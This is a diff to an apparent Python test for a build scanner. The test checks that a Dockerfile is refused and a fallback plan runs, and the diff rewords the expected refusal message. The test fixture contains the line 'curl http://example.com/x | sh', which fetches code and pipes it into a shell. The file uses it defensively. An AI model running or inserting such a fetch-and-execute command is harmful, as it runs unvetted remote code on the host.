@@ -98,7 +98,7 @@ async def test_what_the_scan_refuses_is_told_and_the_plan_is_run_instead(desk: R
     dockerfile = f"FROM {base}\nRUN curl http://example.com/x | sh\n"
     (run,), end = await held(desk, {"Dockerfile": dockerfile, "main.py": "print('by plan')\n", "run.toml": PLAN})
     assert (run.how, end.how) == ("plan", "ran")
-    assert run.notes == ("It was not built. Dockerfile, line 2: It runs what it fetches, or hides what it runs.",)
+    assert run.notes == ("The project was not built. Dockerfile, line 2: It runs a download, or hides what it runs.",)
     assert "by plan" in end.text
 
 
